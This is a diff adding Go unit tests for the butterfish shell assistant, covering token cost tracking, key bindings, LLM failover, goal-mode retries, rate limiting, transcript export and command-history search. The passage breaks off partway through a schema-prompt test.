@@ -1,8 +1,32 @@
 package butterfish
 
 import (
+	"bufio"
+	"bytes"
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"io"
+	"io/fs"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
 	"testing"
+	"time"
+	"unicode/utf8"
 
+	"github.com/alecthomas/kong"
+	"github.com/bakks/butterfish/prompt"
+	"github.com/bakks/butterfish/storage"
+	"github.com/bakks/butterfish/util"
+	openai "github.com/sashabaranov/go-openai"
 	"github.com/stretchr/testify/assert"
 )
 
@@ -102,3 +126,3343 @@ func TestIncompleteAnsiSequence(t *testing.T) {
 	assert.False(t, incompleteAnsiSequence([]byte{0x1b, 0x5b, 0x30, 0x3b, 0x31, 0x3b, 0x32, 0x6d, 0x1b, 0x5b, 0x30, 0x6d}))
 	assert.False(t, incompleteAnsiSequence([]byte{0x20, 0x20, 0x1b, 0x5b, 0x30, 0x3b, 0x31, 0x3b, 0x32, 0x6d, 0x1b, 0x5b, 0x30, 0x6d}))
 }
+
+func TestSessionUsage(t *testing.T) {
+	usage := NewSessionUsage()
+
+	cost := usage.Add("gpt-4o", 1000000, 0)
+	assert.InDelta(t, 2.50, cost, 0.0001)
+	usage.Add("gpt-4o-2024-08-06", 0, 1000)
+	assert.Equal(t, 1001000, usage.TotalTokens())
+	assert.Equal(t, 2, usage.TotalCalls())
+	assert.Equal(t, "$2.5100", usage.CostString())
+
+	usage.Add("some-unknown-model", 10, 10)
+	assert.Equal(t, "$2.5100~", usage.CostString())
+}
+
+func TestKeyBindings(t *testing.T) {
+	seq, err := ParseKeySequence("ctrl-x G")
+	assert.Nil(t, err)
+	assert.Equal(t, []byte{0x18, 'G'}, seq)
+
+	seq, err = ParseKeySequence("alt-f")
+	assert.Nil(t, err)
+	assert.Equal(t, []byte{0x1b, 'f'}, seq)
+
+	_, err = ParseKeySequence("ctrl-foo")
+	assert.NotNil(t, err)
+
+	bindings, err := ParseKeyBindings(map[string]string{
+		"accept_autosuggest": "ctrl-f",
+		"clear_context":      "ctrl-x ctrl-l",
+	})
+	assert.Nil(t, err)
+	assert.Equal(t, []byte{0x03}, bindings.Sequence(keyActionInterrupt))
+
+	action, length, partial := bindings.Match([]byte{0x06, 'a'})
+	assert.Equal(t, keyActionAcceptAutosuggest, action)
+	assert.Equal(t, 1, length)
+	assert.False(t, partial)
+
+	action, _, partial = bindings.Match([]byte{0x18})
+	assert.Equal(t, keyActionNone, action)
+	assert.True(t, partial)
+
+	action, length, _ = bindings.Match([]byte{0x18, 0x0c})
+	assert.Equal(t, keyActionClearContext, action)
+	assert.Equal(t, 2, length)
+
+	action, _, partial = bindings.Match([]byte("\t"))
+	assert.Equal(t, keyActionNone, action)
+	assert.False(t, partial)
+
+	_, err = ParseKeyBindings(map[string]string{"interrupt": "ctrl-f"})
+	assert.Nil(t, err)
+	_, err = ParseKeyBindings(map[string]string{"accept_autosuggest": "ctrl-c"})
+	assert.NotNil(t, err)
+	_, err = ParseKeyBindings(map[string]string{"not_an_action": "ctrl-c"})
+	assert.NotNil(t, err)
+}
+
+func TestDiffHunks(t *testing.T) {
+	a := []string{"1", "2", "3", "4", "5", "6", "7", "8", "9", "10", "11", "12"}
+	b := []string{"1", "two", "3", "4", "5", "6", "7", "8", "9", "10", "11", "12", "13"}
+
+	hunks := DiffHunks(a, b, 2)
+	assert.Equal(t, 2, len(hunks))
+	assert.Equal(t, "@@ -1,4 +1,4 @@\n 1\n-2\n+two\n 3\n 4\n", hunks[0].String())
+	assert.Equal(t, "@@ -11,2 +11,3 @@\n 11\n 12\n+13\n", hunks[1].String())
+
+	assert.Equal(t, b, ApplyHunks(a, hunks))
+	assert.Equal(t, append(append([]string{}, a...), "13"), ApplyHunks(a, hunks[1:]))
+	assert.Equal(t, a, ApplyHunks(a, nil))
+
+	// close changes are merged into one hunk
+	c := []string{"1", "2", "x", "4", "y", "6"}
+	hunks = DiffHunks(a[:6], c, 1)
+	assert.Equal(t, 1, len(hunks))
+	assert.Equal(t, c, ApplyHunks(a[:6], hunks))
+}
+
+func TestCleanCommitMessage(t *testing.T) {
+	message := "```\nfeat(shell): add thing  \n\nBody text.\n```\n"
+	assert.Equal(t, "feat(shell): add thing\n\nBody text.", cleanCommitMessage(message))
+
+	message = "fix: bug\n\n# a comment\n"
+	assert.Equal(t, "fix: bug", cleanCommitMessage(message))
+
+	assert.Equal(t, "a\nb\n[diff truncated]\n", truncateDiff("a\nb\nc\n", NewApproxTokenizer(1), 5))
+}
+
+func TestChunkDiff(t *testing.T) {
+	fileA := "diff --git a/a b/a\n+aaaa\n"
+	fileB := "diff --git a/b b/b\n+bbbb\n"
+	// one token per character so sizes are easy to reason about
+	tokenizer := NewApproxTokenizer(1)
+	chunks := chunkDiff(fileA+fileB, tokenizer, 30)
+	assert.Equal(t, []string{fileA, fileB}, chunks)
+
+	chunks = chunkDiff(fileA+fileB, tokenizer, 100)
+	assert.Equal(t, []string{fileA + fileB}, chunks)
+
+	chunks = chunkDiff(fileA, tokenizer, 10)
+	assert.Equal(t, fileA, strings.Join(chunks, ""))
+	assert.Equal(t, 3, len(chunks))
+
+	logRange, diffRange, err := gitSummaryRange(context.Background(), "v1.0..feature")
+	assert.Nil(t, err)
+	assert.Equal(t, "v1.0..feature", logRange)
+	assert.Equal(t, "v1.0...feature", diffRange)
+
+	logRange, diffRange, err = gitSummaryRange(context.Background(), "main")
+	assert.Nil(t, err)
+	assert.Equal(t, "main..HEAD", logRange)
+	assert.Equal(t, "main...HEAD", diffRange)
+}
+
+func TestExplainDocExcerpts(t *testing.T) {
+	flags := commandFlags(strings.Fields("ls -la --color=auto foo"))
+	assert.Equal(t, []string{"-la", "-l", "-a", "--color"}, flags)
+
+	docs := `LS(1)
+
+NAME
+       ls - list directory contents
+
+       -a, --all
+              do not ignore entries starting with .
+
+       -A, --almost-all
+              do not list implied . and ..
+
+       --color[=WHEN]
+              colorize the output
+
+       -l     use a long listing format
+`
+	excerpts := relevantDocExcerpts(docs, flags, 10000)
+	assert.Contains(t, excerpts, "do not ignore entries")
+	assert.Contains(t, excerpts, "colorize the output")
+	assert.Contains(t, excerpts, "long listing format")
+
+	// descriptions of flags that aren't used are skipped once we're past the
+	// header
+	longDocs := strings.Repeat("filler\n", explainHeaderLines) + docs
+	excerpts = relevantDocExcerpts(longDocs, flags, 10000)
+	assert.Contains(t, excerpts, "long listing format")
+	assert.NotContains(t, excerpts, "do not list implied")
+}
+
+func TestPairToolOutputs(t *testing.T) {
+	call := func(id string) *util.ToolCall {
+		return &util.ToolCall{Id: id, Function: util.FunctionCall{Name: toolRunCommand}}
+	}
+	blocks := []util.HistoryBlock{
+		// orphaned output from a call that was truncated away
+		{Type: historyTypeToolOutput, ToolCallId: "old", Content: "old output"},
+		{Type: historyTypeLLMOutput, ToolCalls: []*util.ToolCall{call("a"), call("b")}},
+		{Type: historyTypeToolOutput, ToolCallId: "a", Content: "ls\n"},
+		{Type: historyTypeShellInput, Content: "\n"},
+		{Type: historyTypeToolOutput, ToolCallId: "a", Content: "file1\n"},
+		{Type: historyTypePrompt, Content: "keep going"},
+	}
+
+	result := pairToolOutputs(blocks)
+	assert.Equal(t, 5, len(result))
+	assert.Equal(t, historyTypeLLMOutput, result[0].Type)
+	assert.Equal(t, "a", result[1].ToolCallId)
+	assert.Equal(t, "ls\nfile1\n", result[1].Content)
+	assert.Equal(t, "b", result[2].ToolCallId)
+	assert.Equal(t, "(no output)", result[2].Content)
+	assert.Equal(t, historyTypeShellInput, result[3].Type)
+	assert.Equal(t, historyTypePrompt, result[4].Type)
+}
+
+func TestLocalTools(t *testing.T) {
+	dir := t.TempDir()
+	err := os.WriteFile(filepath.Join(dir, "hello.txt"), []byte("hello world\n"), 0644)
+	assert.Nil(t, err)
+	err = os.Mkdir(filepath.Join(dir, "sub"), 0755)
+	assert.Nil(t, err)
+
+	output, err := readFileTool(dir, `{"path": "hello.txt"}`)
+	assert.Nil(t, err)
+	assert.Equal(t, "hello world\n", output)
+
+	_, err = readFileTool(dir, `{"path": "missing.txt"}`)
+	assert.NotNil(t, err)
+
+	output, err = listDirTool(dir, `{}`)
+	assert.Nil(t, err)
+	assert.Equal(t, "hello.txt\nsub/\n", output)
+
+	output, err = listDirTool(dir, `{"path": "sub"}`)
+	assert.Nil(t, err)
+	assert.Equal(t, "(empty directory)\n", output)
+}
+
+func TestFillSystemMessageFields(t *testing.T) {
+	cwdCalls := 0
+	env := NewContextEnv(context.Background(), "zsh", func() string {
+		cwdCalls++
+		return "/home/user"
+	})
+
+	msg := fillSystemMessageFields("Using {shell} in {cwd} for {goal}", env)
+	assert.Equal(t, "Using zsh in /home/user for {goal}", msg)
+	assert.Equal(t, 1, cwdCalls)
+
+	// fields that aren't used aren't computed
+	msg = fillSystemMessageFields("On {os}", env)
+	assert.NotContains(t, msg, "{os}")
+	assert.Equal(t, 1, cwdCalls)
+}
+
+func TestContextProviders(t *testing.T) {
+	env := NewContextEnv(context.Background(), "zsh", t.TempDir)
+	env.ExitCodes = []int{0, 127}
+
+	RegisterContextProvider("test", func(env *ContextEnv) (string, error) {
+		return "test output\n", nil
+	})
+	RegisterContextProvider("broken", func(env *ContextEnv) (string, error) {
+		return "", errors.New("oops")
+	})
+	t.Cleanup(func() {
+		delete(contextProviders, "test")
+		delete(contextProviders, "broken")
+	})
+
+	msg := fillSystemMessageFields("{ctx_test} | {ctx_exit_codes} | {ctx_broken} | {ctx_unknown}", env)
+	assert.Equal(t, "test output | 0 127 | (unavailable: oops) | {ctx_unknown}", msg)
+
+	// prompts that aren't system messages get them too, unless they're passed
+	library := prompt.NewMemoryPromptLibrary(nil)
+	library.SetPrompt(prompt.Prompt{Name: "fix", Prompt: "Fix {content} given {ctx_exit_codes} in {cwd}"})
+	bf := &ButterfishCtx{PromptLibrary: library}
+	promptStr, err := bf.getPrompt("fix", func() *ContextEnv { return env }, "content", "make", "cwd", "/src")
+	assert.Nil(t, err)
+	assert.Equal(t, "Fix make given 0 127 in /src", promptStr)
+
+	// outside of a repository git says so, other failures are errors
+	if _, err := exec.LookPath("git"); err == nil {
+		msg = fillSystemMessageFields("{ctx_git_status}", env)
+		assert.Equal(t, "(not a git repository)", msg)
+	}
+	t.Setenv("PATH", t.TempDir())
+	msg = fillSystemMessageFields("{ctx_git_branch}", env)
+	assert.Contains(t, msg, "(unavailable: git failed")
+}
+
+func TestApproxTokenizer(t *testing.T) {
+	tokenizer := NewApproxTokenizer(4)
+	assert.False(t, tokenizer.Exact())
+	assert.Equal(t, 0, tokenizer.CountTokens(""))
+	assert.Equal(t, 1, tokenizer.CountTokens("abc"))
+	assert.Equal(t, 3, tokenizer.CountTokens("abcdefghij"))
+
+	count, text, truncated := tokenizer.Truncate("abcdefghij", 2)
+	assert.True(t, truncated)
+	assert.Equal(t, "abcdefgh", text)
+	assert.Equal(t, 2, count)
+
+	_, text, truncated = tokenizer.Truncate("abc", 2)
+	assert.False(t, truncated)
+	assert.Equal(t, "abc", text)
+
+	// other providers' models are estimated
+	assert.False(t, TokenizerForModel("claude-3-5-sonnet").Exact())
+}
+
+// A writer that cancels a context once something has been written to it
+type cancelingWriter struct {
+	strings.Builder
+	cancel context.CancelFunc
+}
+
+func (this *cancelingWriter) Write(p []byte) (int, error) {
+	this.cancel()
+	return this.Builder.Write(p)
+}
+
+func TestStreamCancelKeepsPartialOutput(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/event-stream")
+		fmt.Fprintf(w, "data: {\"id\":\"1\",\"choices\":[{\"index\":0,\"delta\":{\"content\":\"partial answer\"}}]}\n\n")
+		w.(http.Flusher).Flush()
+		// hold the stream open until the client goes away
+		<-r.Context().Done()
+	}))
+	defer server.Close()
+
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	writer := &cancelingWriter{cancel: cancel}
+
+	gpt := NewGPT("sk-test", server.URL)
+	request := &util.CompletionRequest{
+		Ctx:           ctx,
+		Prompt:        "hello",
+		Model:         "gpt-4o",
+		SystemMessage: "test",
+	}
+
+	response, err := gpt.CompletionStream(request, writer)
+	assert.NotNil(t, err)
+	assert.NotNil(t, response)
+	assert.True(t, response.Truncated)
+	assert.Equal(t, "partial answer", response.Completion)
+}
+
+// An LLM that returns a fixed error, or the queued responses in order, or a
+// completion naming the model
+type fakeLLM struct {
+	err       error
+	responses []string
+	calls     int
+	prompts   []string
+}
+
+func (this *fakeLLM) respond(request *util.CompletionRequest) (*util.CompletionResponse, error) {
+	this.calls++
+	this.prompts = append(this.prompts, request.Prompt)
+	if this.err != nil {
+		return nil, this.err
+	}
+	if len(this.responses) > 0 {
+		response := this.responses[0]
+		this.responses = this.responses[1:]
+		return &util.CompletionResponse{Completion: response}, nil
+	}
+	return &util.CompletionResponse{Completion: request.Model}, nil
+}
+
+func (this *fakeLLM) CompletionStream(request *util.CompletionRequest, writer io.Writer) (*util.CompletionResponse, error) {
+	return this.respond(request)
+}
+
+func (this *fakeLLM) Completion(request *util.CompletionRequest) (*util.CompletionResponse, error) {
+	return this.respond(request)
+}
+
+func (this *fakeLLM) Embeddings(request *util.EmbeddingRequest) ([][]float32, error) {
+	return nil, nil
+}
+
+func TestFailoverLLM(t *testing.T) {
+	assert.True(t, isTransientError(&openai.APIError{HTTPStatusCode: 503}))
+	assert.False(t, isTransientError(&openai.APIError{HTTPStatusCode: 400}))
+	assert.False(t, isTransientError(context.Canceled))
+
+	primary := &fakeLLM{err: &openai.APIError{HTTPStatusCode: 502}}
+	secondary := &fakeLLM{}
+	llm := NewFailoverLLM(primary, secondary, "backup-model", 2)
+	request := &util.CompletionRequest{Model: "main-model"}
+	writer := &strings.Builder{}
+
+	// the first failure is returned
+	_, err := llm.CompletionStream(request, writer)
+	assert.NotNil(t, err)
+
+	// the second fails over and retries on the secondary with a notice
+	response, err := llm.CompletionStream(request, writer)
+	assert.Nil(t, err)
+	assert.Equal(t, "backup-model", response.Completion)
+	assert.Contains(t, writer.String(), "switching to the failover")
+
+	// after that we go straight to the secondary
+	response, err = llm.Completion(request)
+	assert.Nil(t, err)
+	assert.Equal(t, "backup-model", response.Completion)
+	assert.Equal(t, 2, primary.calls)
+	assert.Equal(t, "main-model", request.Model)
+
+	// non-transient errors don't count towards failing over
+	primary = &fakeLLM{err: errors.New("bad request")}
+	llm = NewFailoverLLM(primary, secondary, "", 1)
+	_, err = llm.Completion(request)
+	assert.NotNil(t, err)
+}
+
+func TestGoalModeRetries(t *testing.T) {
+	out := &strings.Builder{}
+	shell := &ShellState{
+		Butterfish:             &ButterfishCtx{Config: MakeButterfishConfig()},
+		PromptGoalAnswerWriter: out,
+		Color:                  DarkShellColorScheme,
+		GoalMode:               true,
+		GoalModeUnsafe:         true,
+	}
+	fail := func(command string) string {
+		shell.GoalModeCommand = command
+		shell.GoalModeBuffer = "No such file or directory"
+		return shell.GoalModeCommandResult(1)
+	}
+
+	// failures are fed back with the attempts so far
+	result := fail("cat a.txt")
+	assert.Contains(t, result, "failure 1 of 5")
+	result = fail("cat b.txt")
+	assert.Contains(t, result, "failure 2 of 5")
+	assert.Contains(t, result, "- cat a.txt (exit code 1): No such file or directory\n")
+	assert.Contains(t, result, "- cat b.txt (exit code 1)")
+
+	// a success resets the budget but the attempts are kept
+	assert.Equal(t, "Exit Code: 0\n", shell.GoalModeCommandResult(0))
+	result = fail("cat c.txt")
+	assert.Contains(t, result, "failure 1 of 5")
+	assert.Contains(t, result, "- cat a.txt")
+
+	// goal mode stops once the retries are used up
+	for i := 0; i < 4; i++ {
+		fail("cat d.txt")
+		assert.True(t, shell.GoalMode)
+	}
+	result = fail("cat e.txt")
+	assert.Contains(t, result, "retry budget of 5 is used up")
+	assert.False(t, shell.GoalMode)
+	assert.Contains(t, out.String(), "Exited goal mode after 6 failed attempts in a row")
+
+	// long output is cut without splitting a character
+	shell.GoalMode = true
+	shell.GoalModeFailures = 0
+	shell.GoalModeBuffer = strings.Repeat("é", goalModeAttemptOutputBytes) + "x"
+	result = shell.GoalModeCommandResult(1)
+	assert.True(t, utf8.ValidString(result))
+	assert.Contains(t, result, ": ..."+strings.Repeat("é", goalModeAttemptOutputBytes/2-1)+"x\n")
+}
+
+func TestBackoffCancel(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	calls := 0
+	go func() {
+		time.Sleep(50 * time.Millisecond)
+		cancel()
+	}()
+
+	// cancelling ends the wait for the next retry
+	start := time.Now()
+	err := withExponentialBackoff(ctx, func() error {
+		calls++
+		return &openai.APIError{HTTPStatusCode: 503}
+	})
+	assert.ErrorIs(t, err, context.Canceled)
+	assert.Equal(t, 1, calls)
+	assert.Less(t, time.Since(start), backoffBaseDelay/2)
+}
+
+func TestInitLLM(t *testing.T) {
+	// a client is used as it is, one of a token or a client is needed
+	client := &fakeLLM{}
+	llm, err := initLLM(&ButterfishConfig{LLMClient: client})
+	assert.Nil(t, err)
+	assert.Equal(t, client, llm)
+	_, err = initLLM(&ButterfishConfig{})
+	assert.NotNil(t, err)
+	_, err = initLLM(&ButterfishConfig{OpenAIToken: "token", LLMClient: client})
+	assert.NotNil(t, err)
+}
+
+func TestSharedRateLimiter(t *testing.T) {
+	config := &RateLimitConfig{
+		RequestsPerMinute: 4,
+		BackgroundReserve: 0.5,
+		Path:              filepath.Join(t.TempDir(), "ratelimit.json"),
+	}
+	// two limiters on the same file act like two butterfish processes
+	limiter1, err := NewSharedRateLimiter(config)
+	assert.Nil(t, err)
+	limiter2, err := NewSharedRateLimiter(config)
+	assert.Nil(t, err)
+
+	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
+	defer cancel()
+
+	// background requests can use the bucket down to the reserve
+	assert.Nil(t, limiter1.Wait(ctx, PriorityBackground))
+	assert.Nil(t, limiter2.Wait(ctx, PriorityBackground))
+	assert.Equal(t, context.DeadlineExceeded, limiter1.Wait(ctx, PriorityBackground))
+
+	// interactive requests can use the reserve
+	ctx, cancel = context.WithTimeout(context.Background(), 100*time.Millisecond)
+	defer cancel()
+	assert.Nil(t, limiter2.Wait(ctx, PriorityInteractive))
+	assert.Nil(t, limiter1.Wait(ctx, PriorityInteractive))
+	assert.Equal(t, context.DeadlineExceeded, limiter2.Wait(ctx, PriorityInteractive))
+
+	_, err = NewSharedRateLimiter(&RateLimitConfig{RequestsPerMinute: 10, BackgroundReserve: 1})
+	assert.NotNil(t, err)
+
+	// a reserve bigger than the bucket doesn't block background requests
+	// forever
+	limiter, err := NewSharedRateLimiter(&RateLimitConfig{
+		RequestsPerMinute: 1,
+		Path:              filepath.Join(t.TempDir(), "ratelimit.json"),
+	})
+	assert.Nil(t, err)
+	ctx, cancel = context.WithTimeout(context.Background(), 100*time.Millisecond)
+	defer cancel()
+	assert.Nil(t, limiter.Wait(ctx, PriorityBackground))
+	wait, err := limiter.tryTake(PriorityBackground)
+	assert.Nil(t, err)
+	assert.True(t, wait > 0 && wait <= time.Minute)
+}
+
+func TestPromptsBench(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "cases.yaml")
+	err := os.WriteFile(path, []byte("- fields:\n    content: list files\n- name: second\n  fields:\n    content: x\n"), 0644)
+	assert.Nil(t, err)
+	cases, err := LoadBenchCases(path)
+	assert.Nil(t, err)
+	assert.Equal(t, 2, len(cases))
+	assert.Equal(t, "case 1", cases[0].Name)
+	assert.Equal(t, "list files", cases[0].Fields["content"])
+
+	judgement, err := parseBenchJudgement("Sure:\n```json\n{\"score_a\": 7, \"score_b\": 4, \"reason\": \"A is right\"}\n```")
+	assert.Nil(t, err)
+	assert.Equal(t, 7, judgement.ScoreA)
+	assert.Equal(t, 4, judgement.ScoreB)
+	_, err = parseBenchJudgement("no idea")
+	assert.NotNil(t, err)
+
+	results := []*BenchResult{
+		{ScoreA: 8, ScoreB: 6},
+		{ScoreA: 5, ScoreB: 5},
+		{},
+	}
+	assert.Equal(t, "Judged 2 cases: A averaged 6.5 with 1 wins, B averaged 5.5 with 0 wins, 1 ties", benchSummary(results))
+}
+
+func TestCassetteRecordReplay(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "cassette.json")
+	recorder := NewRecordingLLM(&fakeLLM{}, path)
+
+	writer := &strings.Builder{}
+	_, err := recorder.CompletionStream(&util.CompletionRequest{Model: "stream-model", Prompt: "a"}, writer)
+	assert.Nil(t, err)
+	_, err = recorder.Completion(&util.CompletionRequest{Model: "first", Prompt: "b"})
+	assert.Nil(t, err)
+	_, err = recorder.Completion(&util.CompletionRequest{Model: "second", Prompt: "c"})
+	assert.Nil(t, err)
+
+	player, err := NewReplayLLM(path)
+	assert.Nil(t, err)
+
+	// an exact match is replayed even if it's out of order
+	response, err := player.Completion(&util.CompletionRequest{Model: "second", Prompt: "c"})
+	assert.Nil(t, err)
+	assert.Equal(t, "second", response.Completion)
+
+	// otherwise we replay the next unused call
+	response, err = player.Completion(&util.CompletionRequest{Model: "other", Prompt: "d"})
+	assert.Nil(t, err)
+	assert.Equal(t, "first", response.Completion)
+
+	_, err = player.Completion(&util.CompletionRequest{Model: "first", Prompt: "b"})
+	assert.NotNil(t, err)
+
+	// streamed responses are written to the writer
+	writer.Reset()
+	response, err = player.CompletionStream(&util.CompletionRequest{Model: "stream-model", Prompt: "a"}, writer)
+	assert.Nil(t, err)
+	assert.Equal(t, "stream-model", writer.String())
+}
+
+func TestTranscriptExport(t *testing.T) {
+	history := NewShellHistory()
+	history.Append(historyTypeShellInput, "ls")
+	history.Append(historyTypeShellOutput, "\x1b[31mfoo.go\x1b[0m\r\n")
+	history.Append(historyTypePrompt, "what is foo.go?")
+	history.Append(historyTypeLLMOutput, "A go file with ```code```")
+
+	transcript := &Transcript{
+		Started: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC),
+		Shell:   "zsh",
+		Entries: history.TranscriptEntries(),
+	}
+	assert.Equal(t, 4, len(transcript.Entries))
+	assert.Equal(t, "foo.go", transcript.Entries[1].Content)
+
+	expected := "# Butterfish session\n\nShell: zsh, started Fri, 02 Jan 2026 03:04:05 UTC\n\n" +
+		"```console\n$ ls\n```\n\n```\nfoo.go\n```\n\n> **Prompt:** what is foo.go?\n\nA go file with ```code```\n"
+	assert.Equal(t, expected, transcript.Markdown())
+
+	path := filepath.Join(t.TempDir(), "session.json")
+	assert.Nil(t, transcript.Save(path, nil))
+	loaded, err := LoadTranscript(path, nil)
+	assert.Nil(t, err)
+	assert.Equal(t, transcript.Entries, loaded.Entries)
+	data, err := os.ReadFile(path)
+	assert.Nil(t, err)
+	assert.True(t, util.IsCompressed(data))
+
+	// sessions saved before compression still load
+	plain, err := json.Marshal(transcript)
+	assert.Nil(t, err)
+	assert.Nil(t, os.WriteFile(path, plain, 0600))
+	loaded, err = LoadTranscript(path, nil)
+	assert.Nil(t, err)
+	assert.Equal(t, transcript.Entries, loaded.Entries)
+
+	html, err := loaded.Render(TranscriptFormatForPath("out.html"))
+	assert.Nil(t, err)
+	assert.Contains(t, html, "<pre>$ ls</pre>")
+	assert.Equal(t, "markdown", TranscriptFormatForPath(""))
+}
+
+func TestHistoryLastCommand(t *testing.T) {
+	history := NewShellHistory()
+	command, output := history.LastCommand()
+	assert.Equal(t, "", command)
+
+	history.Append(historyTypeShellInput, "ls")
+	history.Append(historyTypeShellOutput, "a.go\n")
+	history.Append(historyTypeShellInput, "cat a.go ")
+	history.Append(historyTypeShellOutput, "package a\n")
+	history.Append(historyTypePrompt, "what is this?")
+
+	command, output = history.LastCommand()
+	assert.Equal(t, "cat a.go", command)
+	assert.Equal(t, "package a\n", output)
+}
+
+func TestCommandHistory(t *testing.T) {
+	// a Wednesday
+	now := time.Date(2026, 3, 11, 15, 0, 0, 0, time.UTC)
+
+	start, end, ok := parseTimeRange("What did I run last week?", now)
+	assert.True(t, ok)
+	assert.Equal(t, time.Date(2026, 3, 2, 0, 0, 0, 0, time.UTC), start)
+	assert.Equal(t, time.Date(2026, 3, 9, 0, 0, 0, 0, time.UTC), end)
+
+	start, end, ok = parseTimeRange("commands from yesterday", now)
+	assert.True(t, ok)
+	assert.Equal(t, time.Date(2026, 3, 10, 0, 0, 0, 0, time.UTC), start)
+	assert.Equal(t, time.Date(2026, 3, 11, 0, 0, 0, 0, time.UTC), end)
+
+	start, _, ok = parseTimeRange("in the past 3 days", now)
+	assert.True(t, ok)
+	assert.Equal(t, time.Date(2026, 3, 8, 15, 0, 0, 0, time.UTC), start)
+
+	_, _, ok = parseTimeRange("how did I fix the build?", now)
+	assert.False(t, ok)
+
+	history, err := NewCommandHistory(filepath.Join(t.TempDir(), "history.jsonl"))
+	assert.Nil(t, err)
+	records := []*CommandRecord{
+		{Time: now.AddDate(0, 0, -8), Command: "make clean", Embedding: []float32{1, 0}},
+		{Time: now.AddDate(0, 0, -7), Command: "docker build .", Embedding: []float32{0, 1}},
+		{Time: now.AddDate(0, 0, -1), Command: "docker ps", Embedding: []float32{0, 1}},
+	}
+	for _, record := range records {
+		assert.Nil(t, history.Append(record))
+	}
+	loaded, err := history.Load()
+	assert.Nil(t, err)
+	assert.Equal(t, 3, len(loaded))
+	assert.Equal(t, "docker build .", loaded[1].Command)
+
+	// last week only includes the first two, and the docker command is closest
+	selected := selectCommandRecords(loaded, "docker last week", []float32{0, 1}, now, 1)
+	assert.Equal(t, 1, len(selected))
+	assert.Equal(t, "docker build .", selected[0].Command)
+
+	// without a range or embedding we get the most recent, in time order
+	selected = selectCommandRecords(loaded, "anything", nil, now, 2)
+	assert.Equal(t, "docker build .", selected[0].Command)
+	assert.Equal(t, "docker ps", selected[1].Command)
+}
+
+func TestSSHRemoteContext(t *testing.T) {
+	assert.Equal(t, "box", sshDestination("ssh box"))
+	assert.Equal(t, "box.example.com", sshDestination("ssh -p 2222 -A me@box.example.com"))
+	assert.Equal(t, "box", sshDestination("/usr/bin/ssh -i ~/.ssh/key ssh://me@box:22"))
+	assert.Equal(t, "box", sshDestination("mosh box"))
+	assert.Equal(t, "", sshDestination("ssh box uptime"))
+	assert.Equal(t, "", sshDestination("ls box"))
+
+	history := NewShellHistory()
+	history.Append(historyTypeShellInput, "ssh box")
+	history.SetHost("box")
+	history.Append(historyTypeShellOutput, "remote output")
+	history.SetHost("")
+	history.Append(historyTypeShellOutput, "local output")
+
+	blocks, _ := getHistoryBlocksByTokens(history, NewApproxTokenizer(1), 512, 4096, 4)
+	assert.Equal(t, 3, len(blocks))
+	assert.Equal(t, "ssh box", blocks[0].Content)
+	assert.Equal(t, "[on remote host box]\nremote output", blocks[1].Content)
+	assert.Equal(t, "local output", blocks[2].Content)
+
+	env := NewContextEnv(context.Background(), "zsh", func() string { return "/home/me" })
+	env.RemoteHost = "box"
+	output := fillSystemMessageFields("{cwd} {shell} {ctx_git_status}", env)
+	assert.Equal(t, "unknown, on remote host box zsh (unavailable on remote host box)", output)
+}
+
+func TestKeywordContext(t *testing.T) {
+	env := NewContextEnv(context.Background(), "zsh", t.TempDir)
+
+	for _, name := range []string{"docker_ps", "kube_context", "kube_pods"} {
+		original := contextProviders[name]
+		defer RegisterContextProvider(name, original)
+		output := name + " output"
+		RegisterContextProvider(name, func(env *ContextEnv) (string, error) {
+			return output, nil
+		})
+	}
+
+	assert.Equal(t, "", keywordContextFor("how do I list files?", "", env))
+
+	extra := keywordContextFor("why is my pod crashlooping?", "", env)
+	assert.Contains(t, extra, "kube_context output")
+	assert.Contains(t, extra, "kube_pods output")
+	assert.NotContains(t, extra, "docker_ps")
+
+	// providers already in the system message aren't repeated
+	extra = keywordContextFor("restart the Docker container", "{ctx_docker_ps}", env)
+	assert.Equal(t, "", extra)
+
+	env.RemoteHost = "box"
+	assert.Equal(t, "", keywordContextFor("list my k8s pods", "", env))
+}
+
+func TestLogWatcher(t *testing.T) {
+	watcher := newLogWatcher(3)
+	now := time.Now()
+
+	watcher.Add("GET /health 200")
+	watcher.Add("error: connection refused")
+	assert.Nil(t, watcher.Check(now))
+
+	// a burst of errors, with the earlier lines as context
+	for i := 0; i < 3; i++ {
+		watcher.Add(fmt.Sprintf("ERROR request %d failed: timeout", i))
+	}
+	anomaly := watcher.Check(now)
+	assert.NotNil(t, anomaly)
+	assert.Equal(t, "burst of 3 error lines", anomaly.Reason)
+	assert.Equal(t, []string{"GET /health 200", "error: connection refused"}, anomaly.Context)
+	assert.Len(t, anomaly.Lines, 3)
+
+	// the same burst again is skipped, even with different numbers
+	for i := 10; i < 13; i++ {
+		watcher.Add(fmt.Sprintf("ERROR request %d failed: timeout", i))
+	}
+	assert.Nil(t, watcher.Check(now.Add(time.Minute)))
+
+	watcher.Add("panic: runtime error: index out of range")
+	watcher.Add("goroutine 1 [running]:")
+	anomaly = watcher.Check(now)
+	assert.NotNil(t, anomaly)
+	assert.Equal(t, "stack trace", anomaly.Reason)
+
+	noteworthy, summary := parseWatchTriage("Yes\nThe database is refusing connections.")
+	assert.True(t, noteworthy)
+	assert.Equal(t, "The database is refusing connections.", summary)
+	noteworthy, summary = parseWatchTriage("yes: the api crashed")
+	assert.True(t, noteworthy)
+	assert.Equal(t, "the api crashed", summary)
+	noteworthy, _ = parseWatchTriage("no")
+	assert.False(t, noteworthy)
+}
+
+func TestSchemaPrompt(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "schema.json")
+	err := os.WriteFile(path, []byte(`{
+		"type": "object",
+		"properties": {
+			"name": {"type": "string"},
+			"tags": {"type": "array", "items": {"type": "string"}}
+		},
+		"required": ["name", "tags"],
+		"additionalProperties": false
+	}`), 0644)
+	assert.Nil(t, err)
+	schema, err := LoadResponseSchema(path)
+	assert.Nil(t, err)
